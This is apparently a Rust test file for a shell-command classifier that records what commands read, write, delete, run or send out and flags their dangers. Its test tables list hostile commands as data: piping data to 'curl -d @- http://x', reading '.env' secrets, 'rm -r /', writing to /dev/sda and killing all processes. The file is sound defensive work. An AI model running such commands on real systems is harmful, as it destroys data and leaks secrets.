//! The table is sound, and programs are read as it says.

use super::*;
use crate::reading::registries;
use crate::reading::word::Piece;

/// Words of a line: `$x` alone is one that splits, `"$x"` one that does not, `*` a pattern; quotes otherwise group.
pub(super) fn words(line: &str) -> Vec<Word> {
    let mut words = Vec::new();
    let mut pieces: Option<Vec<Piece>> = None;
    let mut quote = None;
    let mut rest = line.chars().peekable();
    let push = |pieces: &mut Option<Vec<Piece>>, letter: char| {
        let pieces = pieces.get_or_insert_with(Vec::new);
        match pieces.last_mut() {
            Some(Piece::Text(text)) => text.push(letter),
            _ => pieces.push(Piece::Text(letter.to_string())),
        }
    };
    while let Some(letter) = rest.next() {
        match (quote, letter) {
            (None, ' ') => words.extend(pieces.take().map(|pieces| Word { pieces })),
            (None, '\'' | '"') => {
                quote = Some(letter);
                pieces.get_or_insert_with(Vec::new);
            }
            (Some(open), close) if open == close => quote = None,
            (None | Some('"'), '$')
                if rest.peek().is_some_and(|next| next.is_ascii_alphabetic()) =>
            {
                while rest.next_if(|next| next.is_ascii_alphanumeric()).is_some() {}
                let piece = if quote.is_none() {
                    Piece::Fields
                } else {
                    Piece::Unknown
                };
                pieces.get_or_insert_with(Vec::new).push(piece);
            }
            (None, '*') => pieces
                .get_or_insert_with(Vec::new)
                .push(Piece::Glob("*".into())),
            (_, letter) => push(&mut pieces, letter),
        }
    }
    words.extend(pieces.take().map(|pieces| Word { pieces }));
    words
}

/// An invocation in short: sets, then what it does. `!` before a use: an option makes it.
pub(super) fn short(made: &Invocation) -> String {
    let mut parts: Vec<String> = Vec::new();
    let mut sets: Vec<String> = made
        .sets
        .iter()
        .map(|set| format!("@{set:?}").to_lowercase())
        .collect();
    sets.sort();
    parts.extend(sets);
    if made.roles.contains(&Role::Turning) {
        parts.push("turned".into());
    }
    if let Some(directory) = &made.directory {
        parts.push(format!("in {}", classify::display(directory)));
    }
    for one in &made.uses {
        let tree = |tree: &bool| if *tree { "/**" } else { "" };
        let name = |word: &Option<Word>| word.as_ref().map_or("?".to_owned(), classify::display);
        let mut text = match &one.kind {
            UseKind::Read {
                path,
                tree: all,
                leaves_out_ignored,
            } => {
                let but = if *leaves_out_ignored { "-ignored" } else { "" };
                format!("r {}{}{but}", classify::display(path), tree(all))
            }
            UseKind::Write {
                path,
                tree: all,
                removes,
            } => {
                let how = if *removes { "rm" } else { "w" };
                format!("{how} {}{}", classify::display(path), tree(all))
            }
            UseKind::Host(host) => {
                let host = name(host);
                match registries::group_of(&host) {
                    Some(group) => format!("host @{group}"),
                    None => format!("host {host}"),
                }
            }
            UseKind::Remote(remote) => format!("remote {}", name(remote)),
            UseKind::Code { class, .. } => format!("code {class:?}").to_lowercase(),
            UseKind::Script(script) => format!("script {}", classify::display(script)),
        };
        if one.turns {
            text.insert(0, '!');
        }
        for danger in &one.dangers {
            text.push_str(&format!(" ({:?})", danger.category).to_lowercase());
        }
        // The hosts of one registry are one.
        if !text.starts_with("host @") || parts.last() != Some(&text) {
            parts.push(text);
        }
    }
    for inner in &made.hands_on {
        parts.push(match inner {
            HandOn::Program {
                words,
                more,
                changed,
                assignments,
                directory,
            } => {
                let mut text: Vec<String> = assignments
                    .iter()
                    .map(|(name, value)| format!("{name}={}", classify::display(value)))
                    .chain(words.iter().map(classify::display))
                    .collect();
                match more {
                    More::No => {}
                    More::Any => text.push("...".into()),
                    More::Below(directory) => {
                        text.push(format!("...{}", classify::display(directory)));
                    }
                }
                let how = if *changed { "changed" } else { "runs" };
                let at = directory
                    .as_ref()
                    .map_or(String::new(), |at| format!(" in {}", classify::display(at)));
                format!("{how}{at} [{}]", text.join(" "))
            }
            HandOn::Shell {
                text,
                arguments,
                other_shell,
            } => {
                let arguments: Vec<String> = arguments.iter().map(classify::display).collect();
                let how = if *other_shell { "sh" } else { "bash" };
                let behind = if arguments.is_empty() {
                    String::new()
                } else {
                    format!(" ({})", arguments.join(" "))
                };
                format!("{how} {{{}}}{behind}", classify::display(text))
            }
            HandOn::Input { shell: true, .. } => "input sh".into(),
            HandOn::Input { shell: false, .. } => "input code".into(),
            HandOn::Source(file) => format!("source {}", classify::display(file)),
            HandOn::Elsewhere => "elsewhere".into(),
        });
    }
    for danger in &made.dangers {
        parts.push(format!("({:?})", danger.category).to_lowercase());
    }
    parts.join("; ")
}

/// Holds lines `command => what is read`.
pub(super) fn holds(context: &dyn Context, table: &str) {
    let mut wrong = String::new();
    for line in table
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
    {
        let (command, expected) = line
            .split_once(" => ")
            .or(line.strip_suffix(" =>").map(|line| (line, "")))
            .unwrap();
        let made = read(&words(command), context);
        assert_eq!(
            made.roles.len(),
            words(command).len(),
            "{command}: {:?}",
            made.roles
        );
        let line = short(&made);
        if line != expected.trim() {
            wrong.push_str(&format!(
                "\n{command}\n    is {line}\n   not {}",
                expected.trim()
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn the_table_is_sound() {
    let table = table::load(table::FILES).unwrap_or_else(|why| panic!("{why}"));
    table::check(&table).unwrap_or_else(|why| panic!("{why}"));
    assert!(table.entries.len() > 20, "{}", table.entries.len());
    assert_eq!(table.names().count(), table::TABLE.names().count());
}

#[test]
fn options_and_operands() {
    holds(
        &NoContext,
        "
        cat a b => @reads; r a; r b
        cat -- -a => @reads; r -a
        head -20 a => @reads; r a
        head -n 5 a => @reads; r a
        head -n5 a => @reads; r a
        grep -rn foo src => @reads; r src/**
        grep -rn foo => @reads; r ./**
        grep foo => @reads
        grep -e foo a => @reads; r a
        grep -efoo a => @reads; r a
        grep --regexp=foo a => @reads; r a
        grep -A 3 foo a => @reads; r a
        sort -u a => @reads; r a
        sort -o b a => @files; !w b; r a
        sort -ob a => @files; !w b; r a
        sort -uob a => @files; !w b; r a
        sort --outp b a => turned; !w b; r a
        sort --output=b a => @files; !w b; r a
        sort --frob a => turned; r a
        sort \"$x\" => turned; r …
        sort -- \"$x\" => @reads; r …
        sort $x => turned; r …
        sort src/$x => turned; r src/…
        sort \"src/$x\" => @reads; r src/…
        sort * => turned; r *
        sort ./* => @reads; r ./*
        cat \"$x\" => @reads; r …
        ls -la /etc => @reads
        rm a => @files; rm a
        rm -rf a b => @files; rm a/** (delete); rm b/** (delete)
        rm a -fr => @files; rm a/** (delete)
        rm --recurs a => turned; rm a/** (delete)
        rm --no-preserve-root -r / => turned; rm //** (delete)
        cp a b => @files; r a; w b; w b/a
        cp a b/ => @files; r a; w b/a
        cp -r a/x b . => @files; r a/x/**; r b/**; w ./x/**; w ./b/**
        cp -t d a b => @files; r a; r b; w d; w d/a; w d/b
        /usr/bin/cat a => @reads; r a
        ./cat a => @build; r a; !script ./cat
        frobnicate -x a => turned; code unknown
        env A=1 B=2 make -j4 => @reads; runs [A=1 B=2 make -j4]
        env -C d make => @reads; runs in d [make]
        env -u X make => @reads; runs [make]
        env \"$x\" make => @reads; runs [… make]
        env -S 'a b' c => @reads; runs [env a b c]
        env -S'a \\b' => @reads; runs [env …]
        env -u X -S 'A=1 rm x' => @reads; runs [env A=1 rm x]
        env =>
        xargs -0 -n 1 rm -f => @reads; runs [rm -f ...]
        xargs -I{} cp {} d/{} => @reads; runs [cp … d/…]
        xargs --frob rm => turned; runs [… rm ...]
        bash -lc 'a b' x y => bash {a b} (x y)
        sh -c a => sh {a}
        bash a.sh -c b => script a.sh; r a.sh
        bash => input sh
        bash -s a => input sh
        bash -o pipefail -c a => bash {a}
        . ./a => source ./a
        eval a 'b c' => bash {a b c}
    ",
    );
}

#[test]
fn find() {
    holds(&NoContext, "
        find . -name '*.rs' -not -path './target/*' => @reads
        find src -type f => @reads
        find => @reads
        find . -name '*.pyc' -delete => @files; !rm ./** (delete)
        find -delete => @files; !rm ./** (delete)
        find src tests -exec grep -n foo {} ';' => @reads; runs [grep -n foo src/…]; runs [grep -n foo tests/…]
        find . -type f -exec cat {} + => @reads; runs [cat ....]
        find . -exec sh -c 'rm {}' ';' => @reads; runs [sh -c rm …]
        find . -exec {} ';' => @reads; runs [./…]
        find . -execdir rm {} ';' => @reads; runs in ./… [rm ./…]
        find . -fprint out => @files; !w out
        find . -fprintf out '%p' => @files; !w out
        find . -files0-from x => @reads; !r x
        find $d -name x => turned
        find \"$d\" -name x => turned
        find \"src/$d\" -name x => @reads
        find . -name \"$x\" => @reads
        find . -name $x => turned
        find . -frob => turned
        find . -exec a ';' -exec b {} + => @reads; runs [a]; runs [b ....]
        find . -exec a {}.bak ';' => @reads; runs [a ./….bak]
    ");
}

#[test]
fn sed() {
    holds(
        &NoContext,
        "
        sed -n 1,80p a => @reads; r a
        sed 's/a/b/g' a => @reads; r a
        sed -e 's/a/b/' -e 2d a => @reads; r a
        sed -i 's/a/b/' a b => @files; r a; w a; r b; w b
        sed -i.bak -e 's/a/b/' a => @files; r a; w a; w a.bak
        sed -Ei 's/a/b/' a => @files; r a; w a
        sed -n '/x/,/y/p' a => @reads; r a
        sed '1!G;h;$!d' a => @reads; r a
        sed '/^$/d; s|/a|/b|' a => @reads; r a
        sed '1e id' a => @reads; r a; sh {id}
        sed e a => r a; !code unknown
        sed 's/a/b/e' a => r a; !code unknown
        sed 's/a/b/w .git/hooks/x' a => r a; !w .git/hooks/x
        sed -n '1w out' a => r a; !w out
        sed 'r .env' a => @reads; r a; !r .env
        sed -n '$!{N;w x' a => r a; !w x
        sed '1i\\ foo' a => @reads; r a
        sed \"s/a/$x/\" a => @build; r a; !code inline
        sed -f x a => turned; !script x; !r x; r a
        sed --expr='1e id' a => turned; r a; sh {id}
        sed '1,3frob' a => @build; r a; !code inline
        sed '$d' a => @reads; r a
        sed ':a e id' a => @build; r a; !code inline
        sed ':a;N;$!ba;s/x/y/g' a => @reads; r a
    ",
    );
}

#[test]
fn awk() {
    holds(
        &NoContext,
        r#"
        awk '{print $1}' a => @reads; r a
        awk -F: '{print $1, $NF}' a => @reads; r a
        awk -F'|' '$3 > 100 { n++ } END { print n/2 }' a => @reads; r a
        awk 'NR>=10 && NR<=20' a => @reads; r a
        awk '/a|b/ {print}' a => @reads; r a
        awk '{print "a|b" > "out"}' a => @files; r a; !w out
        awk '{print > $1}' a => @build; r a; !code inline
        awk '{print | "sh"}' a => @build; r a; !code inline; sh {sh}
        awk 'BEGIN{system("rm -rf " $1)}' => @build; !code inline
        awk 'BEGIN{printf "x" | "curl -d @- http://x"}' => @build; !code inline; sh {curl -d @- http://x}
        awk 'BEGIN{system("id")}' => @build; !code inline; sh {id}
        awk 'BEGIN { while ("id" | getline x) print x }' => @build; !code inline; sh {id}
        awk 'BEGIN { getline x < ".env"; print x }' => @build; !code inline; !r .env
        awk 'BEGIN { ("cat a") | getline; print }' => @build; !code inline; sh {cat a}
        awk 'BEGIN { getline x < (".env"); print x }' => @build; !code inline; !r .env
        awk '{ n++ / system("id") / 1 }' a => @build; r a; !code inline; sh {id}
        awk '{print $'$n'}' a => turned; r a; !code inline
        awk -v x="$y" '{print x}' a => @reads; r a
        awk -f x.awk a => @build; script x.awk; r x.awk; r a
        awk '{print}' x=1 a => @reads; r a
        awk '@load "x"' a => @build; r a; !code inline
        awk '{ print ($1 > 2) }' a => @reads; r a
        awk '{ print "x" "y" > "a" ".b" }' a => @build; r a; !code inline
    "#,
    );
}

#[test]
fn rg_and_fd() {
    holds(
        &NoContext,
        "
        rg -n 'x|y' src => @reads; r src/**-ignored
        rg foo => @reads; r ./**-ignored
        rg -uu foo => @reads; r ./**
        rg --no-ignore foo src => @reads; r src/**
        rg --files => @reads
        rg --pre ./x foo => turned; !code unknown; r ./**-ignored
        rg --hostname-bin=./x foo => turned; !code unknown; r ./**-ignored
        fd -e rs => @reads
        fd foo src -x rm => @reads; runs [rm ...src]
        fd foo a b -x rm => @reads; runs [rm …]
        fd foo -X cat {} => @reads; runs [cat …]
    ",
    );
}

#[test]
fn what_prints_and_what_hands_on() {
    holds(
        &NoContext,
        "
        less '+!rm a' b => turned; r +!rm a; r b
        less +G a => @reads; r +G; r a
        man ls => @reads
        man ./a => @reads; r ./a
        man -P x ls => turned; sh {x}
        ps aux => @reads
        ps -ef => @reads
        ps -e -o pid => @reads
        ps auxe => turned
        printenv PATH => @reads
        printenv API_KEY =>
        printenv =>
        jq .a b => @reads; r b
        jq -n env =>
        jq -n '$ENV.X' =>
        jq .environment b => @reads; r b
        jq -L . 1 a => @reads; r a
        strace -o log ls => w log; runs [ls]
        strace -o '|rm a' ls => turned; w |rm a; runs [ls]; sh {rm a}
        unshare -r rm a => turned; changed [… -r rm a ...]; (container)
        gdb --args rm a => turned; changed [… --args rm a ...]
        vim -c x a => turned; r x; w x; r a; w a; code inline; code unknown
        kill 123 => @build
        kill -9 -1 => @build; (privilege)
        pkill -f agp => @build; (tampering)
        gzip a => @files; r a; w a; w a.gz
        gunzip a.gz => @files; r a.gz; w a.gz; w a
        dd if=/dev/zero of=a => @files; w a
        dd if=a of=/dev/sda => @files; r a; w /dev/sda (disk)
        dd if=a of=/dev/null => @files; r a
        mv a /dev/null => turned; r a/**; rm a/**; w /dev/null/a
        rm $x => turned; rm … (delete)
        openssl enc -in .env => r .env; code unknown
    ",
    );
}

/// Every program of the table, with words that are odd.
#[test]
fn no_words_break_a_reader() {
    let odd = [
        "-",
        "--",
        "-\u{1}",
        "\u{1}",
        "\u{2}",
        "\u{3}",
        "",
        "-e\n\u{1}x",
        "--=\nx",
        "-ö\n=",
        "a=\u{2}\n:",
        "-c\n{",
        "+\n-S\n",
        "run\n-v\n:\nx",
        "-f\n-\n-i",
        "config\n-\n\u{1}",
        "-exec\n{}\n+",
        "s/\n-o\n|",
        "push\n:\n+",
        "-m\n\u{2}\n-x",
    ];
    let names: Vec<&str> = table::TABLE.names().collect();
    for name in names {
        for words in odd {
            fuzz::program_words(format!("{name}\n{words}").as_bytes());
            fuzz::program_words(format!("{name}\n{words}\n{words}\nz").as_bytes());
        }
    }
}
